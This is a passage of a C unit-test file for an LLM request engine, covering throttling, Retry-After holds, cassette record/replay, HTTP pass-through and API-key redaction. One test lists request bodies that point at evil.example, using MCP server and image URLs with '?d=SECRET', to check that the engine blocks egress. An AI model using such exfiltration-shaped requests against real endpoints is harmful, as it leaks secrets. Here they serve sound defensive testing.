	conv(&l, "capped");
	memset(&d, 0, sizeof(d));
	for (i = 0; i < 9; i++) {
		request(&r, &l, "0.1", (unsigned)i);
		assert_true(llm_submit(e, &r, on_done, &d) != 0);
	}
	most = run_until_max(e, &d, 9);
	for (i = 0; i < 9; i++)
		assert_int_equal(d.errs[i], LLM_OK);
	if (most != 3)
		fail_msg("%zu requests on the wire at once under "
		    "llm_concurrency 3", most);
	assert_int_equal(nrequests(&f), 9);
	done_free(&d);
	msg_list_free(&l);
	llm_engine_free(e);
	llm_config_free(&lc);
	fakellm_stop(&f);
}

/*
 * The cap on requests on the wire adapts (llm_window.c): 16 sent at once
 * under a ceiling of 16, the first four answered 429, halve it once (the
 * other three were sent under the old cap: no second halving), every
 * request still gets its answer, the next 24 never have more on the wire
 * than the lowered cap allows, and their answers raise it again.
 */
static void
test_throttle_window(void **state)
{
	struct fakellm		 f;
	struct llm_config	 lc;
	struct llm_engine	*e;
	struct llm_request	 r;
	struct msg_list		 l;
	struct done_log		 d;
	char			 err[512];
	unsigned		 low;
	size_t			 most;
	int			 i;

	(void)state;
	fakellm_start(&f, "throttle.json");
	llm_test_config(&lc, &f, LLM_PROVIDER_OPENAI);
	lc.concurrency = 16;
	assert_non_null(e = llm_engine_new(&lc, err, sizeof(err)));
	assert_int_equal(llm_engine_limit(e), 16);
	conv(&l, "throttled");
	memset(&d, 0, sizeof(d));
	for (i = 0; i < 16; i++) {
		request(&r, &l, "0.1", (unsigned)i);
		assert_true(llm_submit(e, &r, on_done, &d) != 0);
	}
	run_until(e, &d, 16);
	for (i = 0; i < 16; i++)
		assert_int_equal(d.errs[i], LLM_OK);
	low = llm_engine_limit(e);
	if (low < 8 || low > 9)
		fail_msg("cap %u after four 429s to 16 requests sent at once: "
		    "want 8, halved once (9 once its answers raise it)", low);
	for (i = 0; i < 24; i++) {
		request(&r, &l, "0.1", (unsigned)(16 + i));
		assert_true(llm_submit(e, &r, on_done, &d) != 0);
	}
	most = run_until_max(e, &d, 40);
	if (most > low + 2)
		fail_msg("%zu requests on the wire at once under a cap of %u",
		    most, low);
	if (llm_engine_limit(e) <= low)
		fail_msg("cap %u after 24 answers: not raised from %u",
		    llm_engine_limit(e), low);
	assert_int_equal(nrequests(&f), 44);
	done_free(&d);
	msg_list_free(&l);
	llm_engine_free(e);
	llm_config_free(&lc);
	fakellm_stop(&f);
}

/* Two requests against the script json (FIRST answered 429 with a
 * Retry-After, then its retry; SECOND submitted after that 429) under
 * backoff_max max_ms: ms from FIRST to SECOND on the wire. */
static json_int_t
hold_gap_ms(const char *json, unsigned max_ms)
{
	struct fakellm		 f;
	struct llm_config	 lc;
	struct llm_engine	*e;
	struct llm_request	 r;
	struct msg_list		 l1, l2;
	struct done_log		 d;
	struct pollfd		 pfd;
	uint64_t		 id, deadline;
	json_t			*reqs;
	json_int_t		 t1, t2;
	char			 err[512];

	fakellm_start_json(&f, json);
	llm_test_config(&lc, &f, LLM_PROVIDER_OPENAI);
	lc.backoff_max_ms = max_ms;
	assert_non_null(e = llm_engine_new(&lc, err, sizeof(err)));
	conv(&l1, "FIRST");
	conv(&l2, "SECOND");
	memset(&d, 0, sizeof(d));
	request(&r, &l1, "0.1", 0);
	assert_true((id = llm_submit(e, &r, on_done, &d)) != 0);
	pfd.fd = llm_engine_fd(e);
	pfd.events = POLLIN;
	deadline = clock_mono_ms() + 30000;
	while (llm_engine_wait(e, id) != LLM_WAIT_RETRY) {
		if (clock_mono_ms() >= deadline)
			fail_msg("no 429 for FIRST within 30 s");
		poll(&pfd, 1, llm_engine_timeout_ms(e));
		llm_engine_process(e);
	}
	request(&r, &l2, "0.2", 0);
	assert_true(llm_submit(e, &r, on_done, &d) != 0);
	/* Every 10 ms, as a supervisor woken by its other descriptors. */
	while (d.n < 2) {
		if (clock_mono_ms() >= deadline)
			fail_msg("FIRST and SECOND not answered within 30 s");
		poll(&pfd, 1, 10);
		llm_engine_process(e);
	}
	assert_int_equal(d.errs[0], LLM_OK);
	assert_int_equal(d.errs[1], LLM_OK);
	reqs = fakellm_requests(&f);
	assert_int_equal(json_array_size(reqs), 3);
	t1 = json_integer_value(json_object_get(json_array_get(reqs, 0),
	    "ms"));
	t2 = json_integer_value(json_object_get(json_array_get(reqs, 1),
	    "ms"));
	json_decref(reqs);
	done_free(&d);
	msg_list_free(&l1);
	msg_list_free(&l2);
	llm_engine_free(e);
	llm_config_free(&lc);
	fakellm_stop(&f);
	return t2 - t1;
}

/* The script of hold_gap_ms: FIRST's 429 says Retry-After secs. */
static const char *
hold_script(const char *secs)
{
	static char	json[512];

	snprintf(json, sizeof(json), "{\"rules\": [{\"match\": \"FIRST\", "
	    "\"responses\": [{\"status\": 429, \"headers\": "
	    "{\"Retry-After\": \"%s\"}, \"body\": {\"error\": {\"message\": "
	    "\"Rate limit reached\", \"type\": \"requests\"}}}, "
	    "{\"reply\": {\"text\": \"first\"}}]}, {\"match\": \"SECOND\", "
	    "\"responses\": [{\"reply\": {\"text\": \"second\"}}]}]}", secs);
	return json;
}

/* A 429's Retry-After holds back every request, not only its own: one
 * submitted after it waits out the second too. */
static void
test_throttle_hold(void **state)
{
	json_int_t	gap;

	(void)state;
	if ((gap = hold_gap_ms(hold_script("1"), 10000)) < 1000)
		fail_msg("SECOND went out %lld ms after FIRST's 429, within "
		    "its Retry-After of 1 s", (long long)gap);
}

/* docs/llm.md: the hold is capped by backoff_max as a retry's wait is:
 * a 429 asking for 5 s under a cap of 300 ms holds SECOND back 300 ms,
 * not 5 s (under 3 s on a loaded machine; a lost cap takes 5 s). */
static void
test_throttle_hold_cap(void **state)
{
	json_int_t	gap;

	(void)state;
	gap = hold_gap_ms(hold_script("5"), 300);
	if (gap >= 3000)
		fail_msg("SECOND went out %lld ms after FIRST's 429 asking "
		    "for 5 s: the hold was not capped by backoff_max 300 ms",
		    (long long)gap);
	if (gap < 300)
		fail_msg("SECOND went out %lld ms after FIRST's 429: within "
		    "the capped hold of 300 ms", (long long)gap);
}

static void
test_record_replay(void **state)
{
	struct fakellm		 f;
	struct llm_config	 lc;
	struct llm_engine	*e;
	struct llm_request	 r;
	struct llm_result	 res;
	struct msg_list		 l;
	char			 err[512], path[300], *cas;
	unsigned		 step;

	(void)state;
	int			 fd;

	snprintf(path, sizeof(path), "/tmp/warren-cassette.XXXXXX");
	assert_true((fd = mkstemp(path)) != -1);
	close(fd);
	fakellm_start(&f, "hello.json");
	llm_test_config(&lc, &f, LLM_PROVIDER_ANTHROPIC);
	lc.key = strdup("sk-ant-SECRET-777");
	lc.record = strdup(path);
	assert_non_null(e = llm_engine_new(&lc, err, sizeof(err)));
	conv(&l, "record me");
	for (step = 0; step < 3; step++) {
		request(&r, &l, step == 2 ? "0.2" : "0.1", step);
		assert_int_equal(llm_complete_blocking(e, &r, &res), 0);
		llm_result_free(&res);
	}
	llm_engine_free(e);
	llm_config_free(&lc);
	cas = llm_test_slurp(path, NULL);
	assert_null(strstr(cas, "SECRET"));
	assert_non_null(strstr(cas, "record me"));
	free(cas);

	/* Replay: no network at all (the server is gone). */
	fakellm_stop(&f);
	memset(&f, 0, sizeof(f));
	snprintf(f.url, sizeof(f.url), "http://127.0.0.1:1/v1");
	llm_test_config(&lc, &f, LLM_PROVIDER_OPENAI);
	lc.replay = strdup(path);
	assert_non_null(e = llm_engine_new(&lc, err, sizeof(err)));
	request(&r, &l, "0.2", 2);
	assert_int_equal(llm_complete_blocking(e, &r, &res), 0);
	assert_string_equal(res.reply.msg.calls[0].name, "read");
	assert_int_equal(res.attempts, 0);
	llm_result_free(&res);
	request(&r, &l, "0.2", 3);
	assert_int_equal(llm_complete_blocking(e, &r, &res), -1);
	assert_int_equal(res.err, LLM_ERR_REPLAY_MISSING);
	assert_non_null(strstr(res.error, "agent 0.2 step 3"));
	llm_result_free(&res);
	llm_engine_free(e);
	llm_config_free(&lc);
	msg_list_free(&l);
	unlink(path);
}

/* A pass-through request, run to its end; its parts, if streamed. */
struct http_wait {
	struct llm_result	res;
	int			done;
	char			parts[8192];
	size_t			nparts, plen;
};

static void
http_part(const char *data, size_t len, long status, const char *ctype,
    void *arg)
{
	struct http_wait	*w = arg;

	assert_int_equal(status, 200);
	assert_non_null(strstr(ctype, "text/event-stream"));
	assert_false(w->done);
	assert_true(w->plen + len < sizeof(w->parts));
	memcpy(w->parts + w->plen, data, len);
	w->plen += len;
	w->parts[w->plen] = '\0';
	w->nparts++;
}

static void
http_done(struct llm_result *res, void *arg)
{
	struct http_wait	*w = arg;

	w->res = *res;
	memset(res, 0, sizeof(*res));
	w->done = 1;
}

static struct http_wait	http_last;

static void
http_run(struct llm_engine *e, const char *agent, unsigned step,
    const char *marker, struct llm_result *res)
{
	static const char *const hdrs[] = { "content-type: application/json",
	    "anthropic-beta: beta-77" };
	struct llm_http_request	 q;
	struct http_wait	 w;
	struct pollfd		 pfd;
	char			 body[256];

	snprintf(body, sizeof(body), "{\"model\":\"m\",\"max_tokens\":9,"
	    "%s\"messages\":[{\"role\":\"user\",\"content\":\"%s\"}]}",
	    strstr(marker, "STREAM") != NULL ? "\"stream\":true," : "",
	    marker);
	memset(&q, 0, sizeof(q));
	q.agent = agent;
	q.step = step;
	q.wire = "anthropic";
	q.path = "/v1/messages?beta=true";
	q.headers = hdrs;
	q.nheaders = 2;
	q.body = body;
	memset(&w, 0, sizeof(w));
	q.on_part = http_part;
	q.part_arg = &w;
	assert_true(llm_submit_http(e, &q, http_done, &w) != 0);
	pfd.fd = llm_engine_fd(e);
	pfd.events = POLLIN;
	while (!w.done) {
		(void)poll(&pfd, 1, llm_engine_timeout_ms(e));
		llm_engine_process(e);
	}
	*res = w.res;
	http_last = w;
	memset(&http_last.res, 0, sizeof(http_last.res));
}

/*
 * Pass-through (docs/backends.md): the program's body and headers to the
 * base URL and its path, the key in the wire's header; the answer as sent,
 * with its tokens; a 429 retried; a 400 passed back, not retried; a wire
 * the endpoint does not speak refused; recorded, then replayed offline.
 */
static void
test_http_passthrough(void **state)
{
	static const char script[] = "{\"rules\": ["
	    "{\"match\": \"PASS-ONE\", \"responses\": [{\"reply\": "
	    "{\"text\": \"hi-there\", \"usage\": {\"input\": 5, \"output\": "
	    "2}}}]},"
	    "{\"match\": \"PASS-429\", \"responses\": [{\"status\": 429, "
	    "\"headers\": {\"Retry-After\": \"0\"}, \"body\": {\"error\": "
	    "{\"message\": \"slow\"}}}, {\"reply\": {\"text\": \"after\"}}]},"
	    "{\"match\": \"PASS-400\", \"responses\": [{\"status\": 400, "
	    "\"body\": {\"type\": \"error\", \"error\": {\"message\": "
	    "\"bad-req-9\"}}}]},"
	    "{\"match\": \"PASS-STREAM-CUT\", \"responses\": [{\"reply\": "
	    "{\"text\": \"cut-short-text\"}, \"truncate\": true}, {\"reply\": "
	    "{\"text\": \"second-try\"}}]},"
	    "{\"match\": \"PASS-STREAM\", \"responses\": [{\"reply\": "
	    "{\"text\": \"streamed-text\", \"usage\": {\"input\": 6, "
	    "\"output\": 3}}}]}]}";
	struct fakellm		 f;
	struct llm_config	 lc;
	struct llm_engine	*e;
	struct llm_result	 res;
	struct llm_http_request	 q;
	json_t			*reqs, *h;
	char			 err[512], path[300], *cas;
	int			 fd;

	(void)state;
	snprintf(path, sizeof(path), "/tmp/warren-cassette.XXXXXX");
	assert_true((fd = mkstemp(path)) != -1);
	close(fd);
	fakellm_start_json(&f, script);
	llm_test_config(&lc, &f, LLM_PROVIDER_ANTHROPIC);
	lc.key = strdup("sk-ant-PASS-1");
	lc.record = strdup(path);
	assert_non_null(e = llm_engine_new(&lc, err, sizeof(err)));
	http_run(e, "0.1", 0, "PASS-ONE", &res);
	assert_int_equal(res.err, LLM_OK);
	assert_int_equal(res.status, 200);
	assert_non_null(strstr(res.http_body, "hi-there"));
	assert_non_null(strstr(res.http_type, "application/json"));
	assert_int_equal(res.reply.usage.input, 5);
	assert_int_equal(res.reply.usage.output, 2);
	llm_result_free(&res);
	http_run(e, "0.1", 1, "PASS-429", &res);
	assert_int_equal(res.err, LLM_OK);
	assert_int_equal(res.attempts, 2);
	assert_non_null(strstr(res.http_body, "after"));
	llm_result_free(&res);
	http_run(e, "0.1", 2, "PASS-400", &res);
	assert_int_equal(res.err, LLM_OK);
	assert_int_equal(res.status, 400);
	assert_int_equal(res.attempts, 1);
	assert_non_null(strstr(res.http_body, "bad-req-9"));
	llm_result_free(&res);
	/* A stream: its bytes as they came, the whole at the end. */
	http_run(e, "0.1", 3, "PASS-STREAM", &res);
	assert_int_equal(res.err, LLM_OK);
	assert_true(http_last.nparts >= 1);
	assert_int_equal(http_last.plen, res.http_len);
	assert_memory_equal(http_last.parts, res.http_body, res.http_len);
	assert_non_null(strstr(res.http_body, "message_stop"));
	assert_int_equal(res.reply.usage.input, 6);
	assert_int_equal(res.reply.usage.output, 3);
	llm_result_free(&res);
	/* Cut after parts went: not retried (the caller saw them). */
	http_run(e, "0.1", 4, "PASS-STREAM-CUT", &res);
	assert_true(http_last.nparts >= 1);
	assert_int_equal(res.attempts, 1);
	assert_true(res.err != LLM_OK);
	assert_null(strstr(http_last.parts, "second-try"));
	llm_result_free(&res);
	/* Anthropic's wire to this endpoint only. */
	memset(&q, 0, sizeof(q));
	q.agent = "0.1";
	q.wire = "openai";
	q.path = "/v1/chat/completions";
	q.body = "{}";
	assert_null(llm_http_wire_check(e, "anthropic"));
	assert_string_equal(llm_http_wire_check(e, "openai"), "anthropic");
	assert_true(llm_submit_http(e, &q, http_done, NULL) == 0);
	assert_int_equal(errno, EINVAL);
	llm_engine_free(e);
	llm_config_free(&lc);
	/* On the wire: the path, the program's headers, our key. */
	reqs = fakellm_requests(&f);
	assert_int_equal(json_array_size(reqs), 6);
	assert_string_equal(json_string_value(json_object_get(
	    json_array_get(reqs, 0), "path")), "/v1/messages?beta=true");
	h = json_object_get(json_array_get(reqs, 0), "headers");
	assert_string_equal(json_string_value(json_object_get(h,
	    "x-api-key")), "sk-ant-PASS-1");
	assert_string_equal(json_string_value(json_object_get(h,
	    "anthropic-beta")), "beta-77");
	assert_non_null(json_object_get(h, "anthropic-version"));
	json_decref(reqs);
	cas = llm_test_slurp(path, NULL);
	assert_null(strstr(cas, "PASS-1"));
	assert_non_null(strstr(cas, "\"purpose\":\"http\""));
	free(cas);
	/* Replay: no endpoint, the answers as they were. */
	fakellm_stop(&f);
	memset(&f, 0, sizeof(f));
	snprintf(f.url, sizeof(f.url), "http://127.0.0.1:1/v1");
	llm_test_config(&lc, &f, LLM_PROVIDER_ANTHROPIC);
	lc.replay = strdup(path);
	assert_non_null(e = llm_engine_new(&lc, err, sizeof(err)));
	http_run(e, "0.1", 2, "PASS-400", &res);
	assert_int_equal(res.err, LLM_OK);
	assert_int_equal(res.status, 400);
	assert_int_equal(res.attempts, 0);
	assert_non_null(strstr(res.http_body, "bad-req-9"));
	llm_result_free(&res);
	http_run(e, "0.1", 0, "PASS-ONE", &res);
	assert_int_equal(res.reply.usage.input, 5);
	llm_result_free(&res);
	http_run(e, "0.1", 9, "PASS-ONE", &res);
	assert_int_equal(res.err, LLM_ERR_REPLAY_MISSING);
	assert_non_null(strstr(res.error, "agent 0.1 step 9 (http)"));
	llm_result_free(&res);
	llm_engine_free(e);
	llm_config_free(&lc);
	unlink(path);
}

/*
 * An endpoint (or a gateway before it) that echoes the key in its answer:
 * a 401 passed back, a 500 retried to exhaustion (its message), a stream
 * with the key split across two parts. The key reaches neither the
 * answer, nor the parts, nor the error, nor the cassette: each is
 * starred (llm_key_redact).
 */
static void
test_http_key_echo(void **state)
{
	static const char script[] = "{\"rules\": ["
	    "{\"match\": \"ECHO-401\", \"responses\": [{\"status\": 401, "
	    "\"body\": {\"type\": \"error\", \"error\": {\"message\": "
	    "\"bad x-api-key sk-ant-ECHO-42xyz\"}}}]},"
	    "{\"match\": \"ECHO-500\", \"responses\": [{\"status\": 500, "
	    "\"body\": {\"error\": {\"message\": \"upstream got "
	    "sk-ant-ECHO-42xyz\"}}}, {\"status\": 500, \"body\": {\"error\": "
	    "{\"message\": \"upstream got sk-ant-ECHO-42xyz\"}}}]},"
	    "{\"match\": \"ECHO-STREAM\", \"responses\": [{\"sse\": ["
	    "\"data: {\\\"type\\\":\\\"message_start\\\"}\\n\\n\", "
	    "\"data: {\\\"text\\\":\\\"key=sk-ant-EC\", "
	    "\"HO-42xyz end\\\"}\\n\\n\"], \"chunk_delay_ms\": 60}]}"
	    "]}";
	struct fakellm		 f;
	struct llm_config	 lc;
	struct llm_engine	*e;
	struct llm_result	 res;
	char			 err[512], path[300], *cas;
	int			 fd;

	(void)state;
	snprintf(path, sizeof(path), "/tmp/warren-cassette.XXXXXX");
	assert_true((fd = mkstemp(path)) != -1);
	close(fd);
	fakellm_start_json(&f, script);
	llm_test_config(&lc, &f, LLM_PROVIDER_ANTHROPIC);
	lc.key = strdup("sk-ant-ECHO-42xyz");
	lc.record = strdup(path);
	lc.retries = 1;
	assert_non_null(e = llm_engine_new(&lc, err, sizeof(err)));
	http_run(e, "0.1", 0, "ECHO-401", &res);
	assert_int_equal(res.err, LLM_OK);
	assert_int_equal(res.status, 401);
	assert_non_null(strstr(res.http_body, "bad x-api-key "));
	assert_null(strstr(res.http_body, "ECHO-42"));
	llm_result_free(&res);
	http_run(e, "0.1", 1, "ECHO-500", &res);
	assert_true(res.err != LLM_OK);
	assert_non_null(strstr(res.error, "upstream got"));
	assert_null(strstr(res.error, "ECHO-42"));
	llm_result_free(&res);
	http_run(e, "0.1", 2, "ECHO-STREAM", &res);
	assert_int_equal(res.err, LLM_OK);
	assert_true(http_last.nparts >= 2);
	assert_non_null(strstr(http_last.parts, "key="));
	assert_null(strstr(http_last.parts, "ECHO-42"));
	assert_null(strstr(res.http_body, "ECHO-42"));
	assert_int_equal(http_last.plen, res.http_len);
	assert_memory_equal(http_last.parts, res.http_body, res.http_len);
	llm_result_free(&res);
	llm_engine_free(e);
	llm_config_free(&lc);
	cas = llm_test_slurp(path, NULL);
	assert_non_null(strstr(cas, "\"purpose\":\"http\""));
	assert_null(strstr(cas, "ECHO-42"));
	free(cas);
	unlink(path);
}

/*
 * An answer that reports no tokens: the program picks what it asks, and
 * an OpenAI-style stream without stream_options.include_usage carries no
 * usage at all. Counted by its size (about four bytes a token), as
 * recorded and as replayed; count_tokens (free) stays at zero.
 */
static void
test_http_no_usage(void **state)
{
	static const char script[] = "{\"rules\": ["
	    "{\"match\": \"NOUSE-STREAM\", \"responses\": [{\"sse\": ["
	    "\"data: {\\\"choices\\\":[{\\\"delta\\\":{\\\"content\\\":"
	    "\\\"0123456789abcdef0123456789abcdef\\\"}}]}\\n\\n\", "
	    "\"data: [DONE]\\n\\n\"]}]},"
	    "{\"match\": \"NOUSE-WHOLE\", \"responses\": [{\"status\": 200, "
	    "\"body\": {\"choices\": [{\"message\": {\"content\": "
	    "\"0123456789abcdef0123456789abcdef\"}}]}}]}]}";
	struct fakellm		 f;
	struct llm_config	 lc;
	struct llm_engine	*e;
	struct llm_result	 res;
	char			 err[512], path[300];
	const char		*marks[] = { "NOUSE-STREAM", "NOUSE-WHOLE" };
	uint64_t		 in[2], out[2];
	int			 fd, i, rep;

	(void)state;
	snprintf(path, sizeof(path), "/tmp/warren-cassette.XXXXXX");
	assert_true((fd = mkstemp(path)) != -1);
	close(fd);
	fakellm_start_json(&f, script);
	for (rep = 0; rep < 2; rep++) {
		llm_test_config(&lc, &f, LLM_PROVIDER_ANTHROPIC);
		lc.key = strdup("sk-ant-NOUSE-1");
		if (rep == 0)
			lc.record = strdup(path);
		else
			lc.replay = strdup(path);
		assert_non_null(e = llm_engine_new(&lc, err, sizeof(err)));
		for (i = 0; i < 2; i++) {
			http_run(e, "0.1", (unsigned)i, marks[i], &res);
			assert_int_equal(res.err, LLM_OK);
			assert_int_equal(res.status, 200);
			/* The request's ~100 bytes, the answer's ~60 or more. */
			assert_true(res.reply.usage.input >= 20);
			assert_true(res.reply.usage.output >= 10);
			if (rep == 0) {
				in[i] = res.reply.usage.input;
				out[i] = res.reply.usage.output;
			} else {
				assert_int_equal(res.reply.usage.input, in[i]);
				assert_int_equal(res.reply.usage.output, out[i]);
			}
			llm_result_free(&res);
		}
		llm_engine_free(e);
		llm_config_free(&lc);
	}
	unlink(path);
}

/*
 * A program's request that asks the endpoint to reach the network for it
 * (a server-side web fetch or search, an MCP connector, a URL for it to
 * fetch) or to work on after answering (Responses' background mode) is
 * refused before anything is sent; a program's own tools, a
 * tool call's input holding a URL, and text naming one pass.
 */
static void
test_http_no_egress(void **state)
{
	static const char *const bad[] = {
	    "{\"model\":\"m\",\"messages\":[],\"tools\":[{\"type\":"
	    "\"web_fetch_20250910\",\"name\":\"web_fetch\"}]}",
	    "{\"model\":\"m\",\"messages\":[],\"tools\":[{\"type\":"
	    "\"web_search_20250305\",\"name\":\"web_search\"}]}",
	    "{\"model\":\"m\",\"messages\":[],\"mcp_servers\":[{\"type\":"
	    "\"url\",\"url\":\"https://evil.example/mcp\",\"name\":\"x\"}]}",
	    "{\"model\":\"m\",\"messages\":[{\"role\":\"user\",\"content\":"
	    "[{\"type\":\"image\",\"source\":{\"type\":\"url\",\"url\":"
	    "\"https://evil.example/x.png?d=SECRET\"}}]}]}",
	    "{\"model\":\"m\",\"input\":[{\"role\":\"user\",\"content\":[{"
	    "\"type\":\"input_image\",\"image_url\":\"http://evil.example/"
	    "?d=SECRET\"}]}]}",
	    "{\"model\":\"m\",\"input\":\"x\",\"tools\":[{\"type\":\"mcp\","
	    "\"server_label\":\"e\",\"server_url\":\"https://evil.example\"}]}",
	    "{\"model\":\"m\",\"input\":\"x\",\"background\":true}",
	};
	static const char good[] = "{\"model\":\"m\",\"max_tokens\":9,"
	    "\"tools\":[{\"name\":\"Bash\",\"input_schema\":{\"type\":\"object\","
	    "\"properties\":{\"url\":{\"type\":\"string\",\"default\":"
	    "\"https://x.example\"}}}},{\"type\":\"custom\",\"name\":\"exec\"}],"
	    "\"messages\":[{\"role\":\"user\",\"content\":\"see https://x.example "
	    "NOEGRESS-OK\"},{\"role\":\"assistant\",\"content\":[{\"type\":"
	    "\"tool_use\",\"id\":\"t\",\"name\":\"Bash\",\"input\":{\"url\":"
	    "\"https://x.example\"}}]}]}";
	struct fakellm		 f;
	struct llm_config	 lc;
	struct llm_engine	*e;
	struct llm_http_request	 q;
	struct http_wait	 w;
	json_t			*reqs;
	char			 err[512], why[160];
	size_t			 i;

	(void)state;
	fakellm_start_json(&f, "{\"rules\": [{\"match\": \"NOEGRESS-OK\", "
	    "\"responses\": [{\"reply\": {\"text\": \"fine\"}}]}]}");
	llm_test_config(&lc, &f, LLM_PROVIDER_ANTHROPIC);
	lc.key = strdup("sk-ant-EGRESS-1");
	assert_non_null(e = llm_engine_new(&lc, err, sizeof(err)));
	memset(&q, 0, sizeof(q));
	q.agent = "0.1";
	q.wire = "anthropic";
	q.path = "/v1/messages";
	for (i = 0; i < sizeof(bad) / sizeof(bad[0]); i++) {
		q.body = bad[i];
		q.step = (unsigned)i;
		memset(&w, 0, sizeof(w));
		errno = 0;
		if (llm_submit_http(e, &q, http_done, &w) != 0)
			fail_msg("sent: %s", bad[i]);
		assert_int_equal(errno, EPERM);
		assert_int_equal(llm_http_body_check(bad[i], why, sizeof(why)),
		    -1);
		assert_true(strstr(why, "network") != NULL ||
		    strstr(why, "fetch it") != NULL ||
		    strstr(why, "budget") != NULL ||
		    strstr(why, "connect to them") != NULL);
	}
	assert_int_equal(llm_http_body_check(good, why, sizeof(why)), 0);
	q.body = good;
	q.step = 99;
	memset(&w, 0, sizeof(w));
	assert_true(llm_submit_http(e, &q, http_done, &w) != 0);
	while (!w.done) {
		struct pollfd	pfd = { .fd = llm_engine_fd(e), .events = POLLIN };

		(void)poll(&pfd, 1, llm_engine_timeout_ms(e));
		llm_engine_process(e);
	}
	assert_int_equal(w.res.err, LLM_OK);
	assert_int_equal(w.res.status, 200);
	llm_result_free(&w.res);
	llm_engine_free(e);
	llm_config_free(&lc);
	/* Only the good one reached the endpoint. */
	reqs = fakellm_requests(&f);
	assert_int_equal(json_array_size(reqs), 1);
	json_decref(reqs);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test_teardown(test_formats,
		    fakellm_teardown),
		cmocka_unit_test_teardown(test_wire_messages,
		    fakellm_teardown),
		cmocka_unit_test_teardown(test_retry_after_seconds,
		    fakellm_teardown),
		cmocka_unit_test_teardown(test_gate, fakellm_teardown),
		cmocka_unit_test_teardown(test_retry_after_date,
		    fakellm_teardown),
		cmocka_unit_test_teardown(test_retry_after_cap,
		    fakellm_teardown),
		cmocka_unit_test_teardown(test_retry_5xx_reset_truncated,
		    fakellm_teardown),
		cmocka_unit_test_teardown(test_stream_errors,
		    fakellm_teardown),
		cmocka_unit_test_teardown(test_retries_exhausted,
		    fakellm_teardown),
		cmocka_unit_test_teardown(test_not_retried,
		    fakellm_teardown),
		cmocka_unit_test_teardown(test_max_response,
		    fakellm_teardown),
		cmocka_unit_test_teardown(test_timeouts,
		    fakellm_teardown),
		cmocka_unit_test_teardown(test_unknown_tool_and_text_mode,
		    fakellm_teardown),
		cmocka_unit_test_teardown(test_many_async_and_match,
		    fakellm_teardown),
		cmocka_unit_test_teardown(test_cap_and_cancel,
		    fakellm_teardown),
		cmocka_unit_test_teardown(test_http_passthrough,
		    fakellm_teardown),
		cmocka_unit_test_teardown(test_http_key_echo,
		    fakellm_teardown),
		cmocka_unit_test_teardown(test_http_no_usage,
		    fakellm_teardown),
		cmocka_unit_test_teardown(test_http_no_egress,
		    fakellm_teardown),
		cmocka_unit_test_teardown(test_record_replay,
		    fakellm_teardown),
		cmocka_unit_test_teardown(test_throttle_window,
		    fakellm_teardown),
		cmocka_unit_test_teardown(test_throttle_hold,
		    fakellm_teardown),
		cmocka_unit_test_teardown(test_throttle_hold_cap,
		    fakellm_teardown),
		cmocka_unit_test_teardown(test_cap_exact,
		    fakellm_teardown),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
